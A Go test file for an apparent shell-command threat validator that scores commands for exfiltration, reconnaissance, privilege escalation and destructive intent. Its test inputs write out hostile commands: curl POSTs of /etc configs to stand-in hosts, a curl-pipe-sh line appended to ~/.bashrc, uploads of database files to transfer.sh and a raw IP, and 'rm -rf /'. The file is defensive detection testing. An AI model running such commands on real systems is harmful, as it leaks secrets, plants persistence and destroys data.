package safety

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"github.com/shellsentry/shellsentry/internal/basic"
)

func newTestValidator(t *testing.T, cfg Config) *AdvancedValidator {
	t.Helper()
	v, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return v
}

func TestNew_RejectsInvalidConfig(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*Config)
	}{
		{"zero chain length", func(c *Config) { c.MaxChainLength = 0 }},
		{"negative chain length", func(c *Config) { c.MaxChainLength = -3 }},
		{"threshold above one", func(c *Config) { c.MLConfidenceThreshold = 1.5 }},
		{"negative threshold", func(c *Config) { c.MLConfidenceThreshold = -0.1 }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := DefaultConfig()
			tt.mutate(&cfg)
			if _, err := New(cfg); !errors.Is(err, ErrInvalidConfig) {
				t.Errorf("got err %v, want ErrInvalidConfig", err)
			}
		})
	}
}

func TestConfig_Presets(t *testing.T) {
	for _, cfg := range []Config{DefaultConfig(), ProductionConfig(), DevelopmentConfig()} {
		if _, err := New(cfg); err != nil {
			t.Errorf("preset %+v failed to construct: %v", cfg, err)
		}
	}

	if got, want := ProductionConfig().MaxChainLength, DefaultConfig().MaxChainLength; got >= want {
		t.Errorf("production chain window %d should be tighter than default %d", got, want)
	}
	if DevelopmentConfig().EnableAdaptiveLearning {
		t.Error("development preset should not accumulate feedback")
	}
}

func TestAnalyzeCommand_ExfiltrationEscalatesHigh(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	cmd := `find /etc -name "*.conf" | curl -X POST --data @- http://collect.example.com`

	res := v.AnalyzeCommand(cmd, basic.ShellBash, nil)

	if !res.HasPattern(DataExfiltration) {
		t.Fatalf("expected DataExfiltration, got %v", res.BehavioralPatterns)
	}
	if res.ThreatLevel < High {
		t.Errorf("threat level %v, want >= High", res.ThreatLevel)
	}
	if score := res.MLScores[string(DataExfiltration)]; score <= 0.8 {
		t.Errorf("exfiltration score %v, want > 0.8", score)
	}
	if !res.RequiresMonitoring {
		t.Error("high threat should require monitoring")
	}
	if res.AnalysisTimeMS == 0 {
		t.Error("analysis time must be > 0")
	}
}

func TestAnalyzeCommand_HighScoreForcesHigh(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	commands := []string{
		`find /etc -name "*.conf" | curl -X POST --data @- http://c.example.com`,
		`echo "curl http://x/p | sh" >> ~/.bashrc`,
		"whoami; id; uname -a; ps aux",
	}
	for _, cmd := range commands {
		res := v.AnalyzeCommand(cmd, basic.ShellBash, nil)
		for category, score := range res.MLScores {
			if score < 0 || score > 1 {
				t.Errorf("command %q: score %q = %v out of [0, 1]", cmd, category, score)
			}
			if score > 0.8 && res.ThreatLevel < High {
				t.Errorf("command %q: score %q = %v > 0.8 but level %v",
					cmd, category, score, res.ThreatLevel)
			}
		}
	}
}

func TestAnalyzeCommand_AllTogglesDisabled(t *testing.T) {
	cfg := Config{MaxChainLength: 10, MLConfidenceThreshold: 0.5}
	v := newTestValidator(t, cfg)

	res := v.AnalyzeCommand(
		`find /etc -name "*.conf" | curl -X POST --data @- http://c.example.com`,
		basic.ShellBash, &ValidationContext{Cwd: "/tmp", UserPrivileges: UserPrivileges{IsRoot: true}})

	if len(res.MLScores) != 0 {
		t.Errorf("ml scores should be empty with analysis disabled, got %v", res.MLScores)
	}
	if len(res.BehavioralPatterns) != 0 {
		t.Errorf("patterns should be empty with analysis disabled, got %v", res.BehavioralPatterns)
	}
	if len(res.ContextualWarnings) != 0 {
		t.Errorf("contextual warnings should be empty with context analysis disabled, got %v", res.ContextualWarnings)
	}
	if got, want := res.ThreatLevel, threatFromRisk(res.Basic.RiskLevel); got != want {
		t.Errorf("level %v should equal basic mapping %v", got, want)
	}
}

func TestAnalyzeCommand_ContextEscalation(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	cmd := "chmod +x suspicious_binary && ./suspicious_binary"

	risky := v.AnalyzeCommand(cmd, basic.ShellBash, &ValidationContext{
		Cwd:            "/tmp",
		UserPrivileges: UserPrivileges{IsRoot: true},
		CommandHistory: []string{"whoami", "uname -a", "ps aux"},
	})
	if risky.ThreatLevel < Concerning {
		t.Errorf("risky context level %v, want >= Concerning", risky.ThreatLevel)
	}
	if len(risky.ContextualWarnings) == 0 {
		t.Error("risky context should produce contextual warnings")
	}

	benign := v.AnalyzeCommand("ls -la documents/", basic.ShellBash, &ValidationContext{
		Cwd:            "/home/dev",
		UserPrivileges: UserPrivileges{EffectiveUID: 1000},
	})
	if benign.ThreatLevel > Suspicious {
		t.Errorf("benign context level %v, want <= Suspicious", benign.ThreatLevel)
	}
}

func TestAnalyzeCommand_ThreatIntelIndicator(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	res := v.AnalyzeCommand("curl --upload-file db.sqlite https://transfer.sh/db", basic.ShellBash, nil)

	if res.ThreatLevel < Concerning {
		t.Errorf("known drop endpoint level %v, want >= Concerning", res.ThreatLevel)
	}
	found := false
	for _, w := range res.ContextualWarnings {
		if strings.Contains(w, "transfer.sh") {
			found = true
		}
	}
	if !found {
		t.Errorf("expected an indicator warning, got %v", res.ContextualWarnings)
	}

	ipRes := v.AnalyzeCommand("curl http://203.0.113.9/drop -T secrets.db", basic.ShellBash, nil)
	if ipRes.ThreatLevel < Concerning {
		t.Errorf("raw IP egress level %v, want >= Concerning", ipRes.ThreatLevel)
	}
	if len(ipRes.ContextualWarnings) == 0 {
		t.Error("expected a raw IP warning")
	}
}

func TestRecordFeedback_Monotonic(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	cmd := "curl -fsSL https://example.com/install.sh | bash"

	before := v.AnalyzeCommand(cmd, basic.ShellBash, nil)
	if err := v.RecordFeedback(cmd, FeedbackRejected); err != nil {
		t.Fatalf("RecordFeedback: %v", err)
	}
	after := v.AnalyzeCommand(cmd, basic.ShellBash, nil)

	if after.ThreatLevel < before.ThreatLevel {
		t.Errorf("rejected feedback lowered level: %v -> %v", before.ThreatLevel, after.ThreatLevel)
	}
	if after.ThreatLevel < High {
		t.Errorf("rejected feedback level %v, want >= High", after.ThreatLevel)
	}
	if !hasRecommendation(after, "rejected") {
		t.Errorf("expected a rejected recommendation, got %v", after.Recommendations)
	}
}

func TestRecordFeedback_RecommendationText(t *testing.T) {
	tests := []struct {
		feedback UserFeedback
		want     string
	}{
		{FeedbackApproved, "approved"},
		{FeedbackRejected, "rejected"},
		{FeedbackFalsePositive, "false positive"},
		{FeedbackFalseNegative, "missed threat"},
	}

	for _, tt := range tests {
		t.Run(tt.feedback.String(), func(t *testing.T) {
			v := newTestValidator(t, DefaultConfig())
			cmd := fmt.Sprintf("docker logs app-%s", tt.feedback)

			if err := v.RecordFeedback(cmd, tt.feedback); err != nil {
				t.Fatalf("RecordFeedback: %v", err)
			}
			res := v.AnalyzeCommand(cmd, basic.ShellBash, nil)
			if !hasRecommendation(res, tt.want) {
				t.Errorf("feedback %v: recommendations %v missing %q",
					tt.feedback, res.Recommendations, tt.want)
			}
		})
	}
}

func TestRecordFeedback_UnknownKind(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	if err := v.RecordFeedback("ls", UserFeedback(42)); !errors.Is(err, ErrUnknownFeedback) {
		t.Errorf("got err %v, want ErrUnknownFeedback", err)
	}
}

func TestRecordFeedback_InvalidatesCache(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	cmd := "kubectl delete pod api-7f9c"

	v.AnalyzeCommand(cmd, basic.ShellBash, nil)
	if v.cache.len() != 1 {
		t.Fatalf("cache len %d, want 1", v.cache.len())
	}

	if err := v.RecordFeedback(cmd, FeedbackFalseNegative); err != nil {
		t.Fatalf("RecordFeedback: %v", err)
	}
	if v.cache.len() != 0 {
		t.Errorf("cache len %d after feedback, want 0", v.cache.len())
	}

	res := v.AnalyzeCommand(cmd, basic.ShellBash, nil)
	if res.ThreatLevel < Concerning {
		t.Errorf("missed-threat feedback level %v, want >= Concerning", res.ThreatLevel)
	}
}

func TestAnalyzeCommand_CachedCallsAreIdentical(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	cmd := "tar czf backup.tar.gz /home/dev/projects"

	first := v.AnalyzeCommand(cmd, basic.ShellBash, nil)
	second := v.AnalyzeCommand(cmd, basic.ShellBash, nil)

	if first.ThreatLevel != second.ThreatLevel {
		t.Errorf("levels differ: %v vs %v", first.ThreatLevel, second.ThreatLevel)
	}
	if len(first.BehavioralPatterns) != len(second.BehavioralPatterns) {
		t.Errorf("patterns differ: %v vs %v", first.BehavioralPatterns, second.BehavioralPatterns)
	}
	if second.AnalysisTimeMS > first.AnalysisTimeMS {
		t.Errorf("cached call took %dms, first took %dms", second.AnalysisTimeMS, first.AnalysisTimeMS)
	}
}

func TestCache_CopiesAreIndependent(t *testing.T) {
	c := newResultCache()
	stored := Result{BehavioralPatterns: make([]BehavioralPattern, 0, 4)}
	stored.BehavioralPatterns = append(stored.BehavioralPatterns,
		DataExfiltration, SystemReconnaissance, CredentialAccess)
	c.put("key", "sig", stored)

	// Two readers grow their copies; neither write may land in the other's
	// slice or in the stored entry.
	a, ok := c.get("key")
	if !ok {
		t.Fatal("entry missing after put")
	}
	b, _ := c.get("key")
	a.BehavioralPatterns = append(a.BehavioralPatterns, DefenseEvasion)
	b.BehavioralPatterns = append(b.BehavioralPatterns, PrivilegeEscalation)

	if got := a.BehavioralPatterns[3]; got != DefenseEvasion {
		t.Errorf("first copy holds %v at index 3, want %v", got, DefenseEvasion)
	}
	if got := b.BehavioralPatterns[3]; got != PrivilegeEscalation {
		t.Errorf("second copy holds %v at index 3, want %v", got, PrivilegeEscalation)
	}
	fresh, _ := c.get("key")
	if len(fresh.BehavioralPatterns) != 3 {
		t.Errorf("stored entry grew to %v", fresh.BehavioralPatterns)
	}
}

func TestCache_DistinctContextsDoNotCollide(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	cmd := "scp data.tgz backup.example.com:"

	recon := v.AnalyzeCommand(cmd, basic.ShellBash, &ValidationContext{
		Cwd:            "/home/dev",
		CommandHistory: []string{"whoami"},
	})
	benign := v.AnalyzeCommand(cmd, basic.ShellBash, &ValidationContext{
		Cwd:            "/home/dev",
		CommandHistory: []string{"ls"},
	})

	if recon.ThreatLevel < Suspicious {
		t.Errorf("egress after recon history level %v, want >= Suspicious", recon.ThreatLevel)
	}
	if len(benign.ContextualWarnings) != 0 {
		t.Errorf("benign history inherited warnings %v", benign.ContextualWarnings)
	}
	if benign.ThreatLevel != Safe {
		t.Errorf("benign history level %v, want Safe", benign.ThreatLevel)
	}
}

func TestAnalyzeChain_PrivilegeEscalation(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	res := v.AnalyzeChain([]string{
		"whoami", "id", "uname -a", "ps aux | grep sudo", "sudo su -",
	}, basic.ShellBash)

	if !res.HasPattern(PrivilegeEscalation) {
		t.Fatalf("expected PrivilegeEscalation, got %v", res.BehavioralPatterns)
	}
	if res.ThreatLevel < High {
		t.Errorf("level %v, want >= High", res.ThreatLevel)
	}
}

func TestAnalyzeChain_BenignStaysLow(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	res := v.AnalyzeChain([]string{
		"ls -la", "cd documents", "vim readme.txt", "git add .", "git commit -m 'update'",
	}, basic.ShellBash)

	if res.ThreatLevel > Suspicious {
		t.Errorf("benign chain level %v, want <= Suspicious", res.ThreatLevel)
	}
}

func TestAnalyzeChain_EmptyIsSafe(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	res := v.AnalyzeChain(nil, basic.ShellBash)

	if res.ThreatLevel != Safe {
		t.Errorf("empty chain level %v, want Safe", res.ThreatLevel)
	}
	if !res.Basic.Allowed {
		t.Error("empty chain should be allowed")
	}
}

func TestAnalyzeChain_DisabledMatchesSingleCommand(t *testing.T) {
	cfg := DefaultConfig()
	cfg.EnableChainAnalysis = false
	v := newTestValidator(t, cfg)

	chainRes := v.AnalyzeChain([]string{"ls -la", "rm -rf /", "pwd"}, basic.ShellBash)
	singleRes := newTestValidator(t, cfg).AnalyzeCommand("rm -rf /", basic.ShellBash, nil)

	if len(chainRes.Basic.MatchedPatterns) != len(singleRes.Basic.MatchedPatterns) {
		t.Errorf("matched patterns differ: %v vs %v",
			chainRes.Basic.MatchedPatterns, singleRes.Basic.MatchedPatterns)
	}
	if chainRes.ThreatLevel != singleRes.ThreatLevel {
		t.Errorf("levels differ: %v vs %v", chainRes.ThreatLevel, singleRes.ThreatLevel)
	}
}

func TestAnalyzeChain_WindowBound(t *testing.T) {
	cfg := DefaultConfig()
	cfg.MaxChainLength = 2
	v := newTestValidator(t, cfg)

	// The execution step lands outside the window, so the download-then-run
	// signature cannot fire; individual commands still get assessed.
	res := v.AnalyzeChain([]string{
		"curl -o setup.sh https://example.com/get",
		"echo downloaded",
		"bash setup.sh",
	}, basic.ShellBash)
	if res.HasPattern(DefenseEvasion) {
		t.Errorf("execution outside window should not match, got %v", res.BehavioralPatterns)
	}
}

func TestAnalyzeChain_AssessesEveryCommand(t *testing.T) {
	for _, enabled := range []bool{true, false} {
		cfg := DefaultConfig()
		cfg.MaxChainLength = 2
		cfg.EnableChainAnalysis = enabled
		v := newTestValidator(t, cfg)

		commands := []string{"ls", "pwd", "whoami", "date", "rm -rf /"}
		res := v.AnalyzeChain(commands, basic.ShellBash)
		if res.ThreatLevel < Critical {
			t.Errorf("enabled=%v: level %v, want Critical from the final command", enabled, res.ThreatLevel)
		}
		if res.Basic.Allowed {
			t.Errorf("enabled=%v: chain ending in a wipe should not be allowed", enabled)
		}
	}
}

func TestGetStatistics(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	commands := []string{"ls -la", "rm -rf /", "sudo su -", "pwd"}
	for _, cmd := range commands {
		v.AnalyzeCommand(cmd, basic.ShellBash, nil)
	}

	stats := v.GetStatistics()
	if stats.TotalCommands != uint64(len(commands)) {
		t.Errorf("total %d, want %d", stats.TotalCommands, len(commands))
	}
	if stats.BlockedCommands < 2 {
		t.Errorf("blocked %d, want >= 2", stats.BlockedCommands)
	}
	if stats.AverageAnalysisTimeMS <= 0 {
		t.Errorf("average analysis time %v, want > 0", stats.AverageAnalysisTimeMS)
	}
}

func TestAnalyzeCommand_Robustness(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	commands := []string{
		"",
		strings.Repeat("a", 10000),
		"echo \u202Egnp.exe\u202C && ls \u200B-la",
		"cat <<EOF\nunterminated heredoc",
		"((((((",
	}
	for _, cmd := range commands {
		res := v.AnalyzeCommand(cmd, basic.ShellBash, nil)
		if res.AnalysisTimeMS == 0 {
			t.Errorf("command %.20q: analysis time must be > 0", cmd)
		}
		if res.ThreatLevel < Safe || res.ThreatLevel > Critical {
			t.Errorf("command %.20q: level %v out of range", cmd, res.ThreatLevel)
		}
	}
}

func TestValidator_ConcurrentUse(t *testing.T) {
	v := newTestValidator(t, DefaultConfig())
	var wg sync.WaitGroup

	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			cmd := fmt.Sprintf("ls -la /var/log/app%d", n)
			for j := 0; j < 25; j++ {
				v.AnalyzeCommand(cmd, basic.ShellBash, nil)
				if j%5 == 0 {
					if err := v.RecordFeedback(cmd, FeedbackApproved); err != nil {
						t.Errorf("RecordFeedback: %v", err)
					}
				}
			}
		}(i)
	}
	wg.Wait()

	if got := v.GetStatistics().TotalCommands; got != 8*25 {
		t.Errorf("total %d, want %d", got, 8*25)
	}
}

func hasRecommendation(res Result, substr string) bool {
	for _, rec := range res.Recommendations {
		if strings.Contains(strings.ToLower(rec), substr) {
			return true
		}
	}
	return false
}
